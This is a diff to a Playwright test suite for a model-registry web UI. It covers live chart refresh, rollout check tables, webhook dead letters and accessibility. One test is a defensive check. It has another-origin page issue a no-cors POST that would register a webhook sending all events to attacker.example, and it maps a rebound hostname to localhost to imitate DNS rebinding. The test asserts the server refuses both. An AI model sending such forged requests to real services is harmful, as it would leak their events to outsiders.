@@ -143,7 +143,9 @@ def site(tmp_path_factory):
 @pytest.fixture(scope="module")
 def browser():
     with sync_playwright() as p:
-        b = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        # `rebound.example` resolves to 127.0.0.1, as a name re-pointed by DNS rebinding would.
+        b = p.chromium.launch(executable_path=CHROMIUM,
+                              args=["--no-sandbox", "--host-resolver-rules=MAP rebound.example 127.0.0.1"])
         yield b
         b.close()
 
@@ -335,6 +337,16 @@ def test_the_endpoint_page_charts_the_analysis_of_every_version(site, browser):
     assert points >= expected - 2 and points > 0, (points, expected)
     now = page.locator("#analysis tr[data-version='1']")
     expect(now).to_contain_text("stable")
+    # The charts refresh themselves every 5 seconds: the series is fetched again and a new step
+    # of live traffic appears, without a reload.
+    fetched = []
+    page.on("request", lambda r: "/analysis/series" in r.url and fetched.append(time.time()))
+    page.evaluate("window.__notReloaded = true")
+    newest = chart("requests_per_second").locator("table.chart-data tbody tr").last.locator("td").first
+    shown = newest.text_content()
+    expect(newest).not_to_have_text(shown, timeout=40000)
+    page.wait_for_timeout(11000)  # two more periods
+    assert len(fetched) >= 3 and page.evaluate("window.__notReloaded") is True, fetched
     if SHOTS:
         # For the README's picture: a few minutes of steps rather than the first one.
         time.sleep(75)
@@ -344,7 +356,14 @@ def test_the_endpoint_page_charts_the_analysis_of_every_version(site, browser):
 
     # Drift: the worst feature first, and drift.detected on the timeline.
     expect(page.locator("#drift table.drift-features tbody tr").first).to_have_attribute("data-feature", "f0", timeout=30000)
-    expect(page.locator("#timeline li[data-type='drift.detected']").first).to_be_visible(timeout=30000)
+    # The monitor's verdict first (its pace depends on the traffic a loaded machine manages),
+    # then the page showing it.
+    deadline = time.time() + 120
+    while not [e for e in site.get("/api/v1/events?after=0&limit=1000")["events"]
+               if e["type"] == "drift.detected" and e["subject"] == "fraud"]:
+        assert time.time() < deadline, "no drift.detected for the endpoint"
+        time.sleep(1)
+    expect(page.locator("#timeline li[data-type='drift.detected']").first).to_be_visible(timeout=15000)
     expect(page.locator("#timeline li[data-type='endpoint.updated']").first).to_be_visible()
     expect(chart("drift_psi").locator("canvas")).to_have_count(1)
 
@@ -364,6 +383,47 @@ def test_the_endpoint_page_charts_the_analysis_of_every_version(site, browser):
     page.locator("#hist-feature").select_option("f0")
     page.evaluate("document.getElementById('histogram').previousElementSibling.previousElementSibling.scrollIntoView()")
     tab.shot("drift")
+    assert tab.close() == []
+
+
+def test_the_timeline_shows_the_analysis_that_decided_a_rollout_step(site, browser):
+    tab = Page(browser, site, "read")
+    page = tab.open("/ui/endpoints/fraud")
+    expect(page.locator("#timeline li").first).to_be_visible(timeout=15000)
+    page.evaluate("window.__notReloaded = true")
+    # What the operator posts when a canary step fails on its business metric.
+    step = {"reason": "RewardTooLow", "message": "v2 rolled back at step 1/3 (30%): rewardRatio 0.8 < 0.95",
+            "phase": "RolledBack", "stable": 1, "candidate": 2, "weight": 0.0,
+            "source": "ModelDeployment default/fraud",
+            "analysis": {"stage": "Canary", "verdict": "Failed", "decided_by": "rewardRatio", "candidate": 2,
+                         "stable": 1, "window_seconds": 60.0, "checks": [
+                             {"check": "sampleSize", "value": 412.0, "threshold": 100.0, "passed": True},
+                             {"check": "rewardRatio", "value": 0.8, "threshold": 0.95, "passed": False,
+                              "note": "candidate reward 0.8 vs stable 1"},
+                             {"check": "errorRate", "value": 0.0, "threshold": 0.01, "passed": True},
+                             {"check": "drift", "note": "no drift policy"}]}}
+    status, event = site.request("POST", "/api/v1/endpoints/fraud/rollout-events", step, token="write")
+    assert status == 201, event
+    item = page.locator(f"#timeline li[data-event='{event['id']}']")
+    expect(item).to_contain_text("RewardTooLow", timeout=15000)
+    table = item.locator("table.checks")
+    expect(table).to_have_attribute("data-verdict", "Failed")
+    expect(table.locator("caption")).to_contain_text("decided by rewardRatio")
+    expect(table.locator("caption")).to_contain_text("canary analysis of version 2 against 1 over 60 s")
+    expect(table.locator("tbody tr")).to_have_count(4)
+    failed = table.locator("tr.failed")
+    expect(failed).to_have_count(1)
+    expect(failed.locator("td")).to_have_text(["0.800", "0.950", "failed", "candidate reward 0.8 vs stable 1"])
+    expect(table.locator("tr[data-check='drift'] td").nth(2)).to_have_text("not judged")
+    assert page.evaluate("window.__notReloaded") is True
+    # A step that did not follow a judgement has no table.
+    status, event = site.request("POST", "/api/v1/endpoints/fraud/rollout-events", {
+        "reason": "RolloutStarted", "message": "v3 rollout started", "phase": "Shadowing", "stable": 1,
+        "candidate": 3, "weight": 0.0}, token="write")
+    assert status == 201, event
+    started = page.locator(f"#timeline li[data-event='{event['id']}']")
+    expect(started).to_contain_text("RolloutStarted", timeout=15000)
+    expect(started.locator("table")).to_have_count(0)
     assert tab.close() == []
 
 
@@ -410,8 +470,8 @@ def test_an_admin_sees_webhooks_and_replays_a_dead_letter_from_the_ui(site, brow
 
     server = http.server.HTTPServer(("127.0.0.1", receiver_port), Hook)
     threading.Thread(target=server.serve_forever, daemon=True).start()
+    tab = Page(browser, site, "admin")
     try:
-        tab = Page(browser, site, "admin")
         page = tab.open("/ui/webhooks")
         section = page.locator(f"section[data-webhook='{hook}']")
         expect(section).to_contain_text(f"http://127.0.0.1:{receiver_port}/hook")
@@ -425,9 +485,16 @@ def test_an_admin_sees_webhooks_and_replays_a_dead_letter_from_the_ui(site, brow
             time.sleep(0.2)
         assert received[0]["type"] == "alias.set" and received[0]["data"]["alias"] == "canary", received
         expect(section).to_contain_text("Dead letters (0)", timeout=15000)
-        assert tab.close() == []
     finally:
         server.shutdown()
+        server.server_close()
+    # The receiver is gone again: the next delivery is a dead letter, and the page, left alone,
+    # shows it (it refreshes every 5 seconds) without a reload.
+    page.evaluate("window.__notReloaded = true; document.activeElement && document.activeElement.blur()")
+    site.ferry("model", "alias", "set", "churn", "canary", "1")
+    expect(section).to_contain_text("Dead letters (1)", timeout=20000)
+    assert page.evaluate("window.__notReloaded") is True
+    assert tab.close() == []
 
 
 def test_a_narrow_screen_and_the_keyboard_reach_every_section(site, browser):
@@ -461,3 +528,132 @@ def test_a_narrow_screen_and_the_keyboard_reach_every_section(site, browser):
         assert width[0] <= width[1] + 1, (path, width)
     context.close()
     assert errors == []
+
+
+@pytest.fixture(scope="module")
+def open_site(tmp_path_factory):
+    """`ferry up` without tokens (loopback, every caller admin), with Codeberg and Bitbucket
+    remotes in its lineage."""
+    tmp = tmp_path_factory.mktemp("ui-open")
+    up = Process(["up", "--no-demo", "--data-dir", str(tmp / "data")], tmp / "up.log", cwd=tmp)
+    base = f"http://{up.address}"
+
+    def get(path):
+        with urllib.request.urlopen(base + path, timeout=10) as response:
+            return json.loads(response.read())
+
+    up.wait_until(lambda: get("/readyz")["status"] == "ready", "ferry up starting")
+    env = {k: v for k, v in ferry_env().items() if k != "FERRY_TOKEN"}
+    env["FERRY_REGISTRY"] = base
+    for tag, repo, alias in (("o1", "https://codeberg.org/acme/scoring", ["--alias", "production"]),
+                             ("o2", "git@bitbucket.org:acme/scoring.git", [])):
+        out = subprocess.run([ferry_bin(), "model", "push", str(variant(tmp, tag)), "--name", "scoring",
+                              "--git", COMMIT, "--git-repo", repo, *alias],
+                             env=env, capture_output=True, text=True, timeout=120, cwd=tmp)
+        assert out.returncode == 0, out.stdout + out.stderr
+    yield type("OpenSite", (), {"base": base, "port": up.port, "get": staticmethod(get)})
+    up.stop()
+
+
+def refused_webhook_creations(site) -> float:
+    """`POST /api/v1/webhooks` the registry refused with 403, from its /metrics."""
+    with urllib.request.urlopen(site.base + "/metrics", timeout=10) as response:
+        text = response.read().decode()
+    return sum(float(line.rsplit(" ", 1)[1]) for line in text.splitlines()
+               if line.startswith("ferry_http_requests_total{") and 'status="403"' in line
+               and 'method="POST"' in line and 'route="/api/v1/webhooks"' in line)
+
+
+def test_an_open_server_needs_no_sign_in_and_refuses_other_sites_and_rebound_names(open_site, browser):
+    context = browser.new_context(viewport={"width": 1366, "height": 900})
+    page = context.new_page()
+    errors = []
+    page.on("console", lambda m: m.type == "error" and errors.append(m.text))
+    page.on("pageerror", lambda e: errors.append(str(e)))
+    page.goto(f"{open_site.base}/ui/models/scoring")
+    expect(page.locator("#who")).to_have_text("open server (admin)")
+    expect(page.locator("#token")).to_have_count(0)
+    expect(page.locator("details.version")).to_have_count(2)
+    # Codeberg over HTTPS and Bitbucket over SSH link to the commit there.
+    for version, href in (("1", f"https://codeberg.org/acme/scoring/commit/{COMMIT}"),
+                          ("2", f"https://bitbucket.org/acme/scoring/commits/{COMMIT}")):
+        page.locator(f"details[data-version='{version}'] summary").click()
+        expect(page.locator(f"details[data-version='{version}']").get_by_role("link", name=COMMIT)) \
+            .to_have_attribute("href", href)
+    # The page's own writes go through (same origin, a JSON body).
+    page.once("dialog", lambda d: d.accept())
+    page.locator("#alias-name").fill("production")
+    page.locator("#alias-version").select_option("2")
+    page.get_by_role("button", name="Move", exact=True).click()
+    expect(page.locator("#aliases")).to_contain_text("@production → 2", timeout=15000)
+    assert open_site.get("/api/v1/models/scoring")["aliases"]["production"] == 2
+    assert errors == [], errors
+
+    # A page of another site (another origin) makes the browser send a write it may send without
+    # asking (a text/plain POST, no-cors): here, a webhook that would send every event to the
+    # attacker. The registry refuses it on its Origin.
+    class Other(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            body = b"<!doctype html><title>another site</title><p>another site</p>"
+            self.send_response(200)
+            self.send_header("content-type", "text/html")
+            self.send_header("content-length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args):
+            pass
+
+    other = http.server.HTTPServer(("127.0.0.1", free_port()), Other)
+    threading.Thread(target=other.serve_forever, daemon=True).start()
+    try:
+        before = refused_webhook_creations(open_site)
+        page.goto(f"http://localhost:{other.server_port}/")
+        page.evaluate("""async (url) => {
+            await fetch(url, {method: 'POST', mode: 'no-cors', headers: {'content-type': 'text/plain'},
+                              body: JSON.stringify({url: 'https://attacker.example/hook', events: ['*']})}); }""",
+                      f"{open_site.base}/api/v1/webhooks")
+        assert refused_webhook_creations(open_site) == before + 1
+        assert open_site.get("/api/v1/webhooks")["items"] == []
+    finally:
+        other.shutdown()
+        other.server_close()
+
+    # A name re-pointed at 127.0.0.1 (DNS rebinding) gets the page, which holds no data, and
+    # every API call behind it is refused on its Host.
+    errors.clear()
+    page.goto(f"http://rebound.example:{open_site.port}/ui/models/scoring")
+    expect(page.locator("main .error-box")).to_contain_text(f"Host `rebound.example:{open_site.port}`")
+    expect(page.locator("details.version")).to_have_count(0)
+    assert errors and all("403" in e for e in errors), errors
+    context.close()
+
+
+def test_every_page_passes_the_axe_accessibility_rules(site, browser):
+    """axe-core (the engine behind Lighthouse's accessibility audit), WCAG 2.1 A and AA rules
+    (contrast included), on every page with real data, signed in as admin (so the write
+    controls are there too) and on the sign-in page."""
+    from axe_playwright_python.sync_playwright import Axe
+    axe = Axe()
+    options = {"runOnly": {"type": "tag", "values": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa"]},
+               "resultTypes": ["violations"]}
+    context = browser.new_context(viewport={"width": 1366, "height": 900})
+    page = context.new_page()
+    page.goto(f"{site.base}/ui/")
+    expect(page.locator("#token")).to_be_visible()
+    found = {"sign-in": axe.run(page, options=options)}
+    page.get_by_label("API token").fill(TOKENS["admin"])
+    page.get_by_role("button", name="Sign in").click()
+    expect(page.locator("#who")).to_have_text("role: admin")
+    for path, ready in (("/ui/models", "tr[data-model]"), ("/ui/models/fraud", "details.version"),
+                        ("/ui/models/fraud/compare?a=1&b=2", "table.compare"),
+                        ("/ui/endpoints", "tr[data-endpoint]"), ("/ui/endpoints/fraud", "section.chart canvas"),
+                        ("/ui/events", "#feed li[data-type]"), ("/ui/webhooks", "h1")):
+        page.goto(f"{site.base}{path}")
+        expect(page.locator(ready).first).to_be_visible(timeout=15000)
+        if path == "/ui/models/fraud":
+            page.locator("details[data-version='1'] summary").click()
+        found[path] = axe.run(page, options=options)
+    context.close()
+    failing = {path: r.generate_report() for path, r in found.items() if r.violations_count}
+    assert failing == {}, "\n".join(f"{p}:\n{report}" for p, report in failing.items())
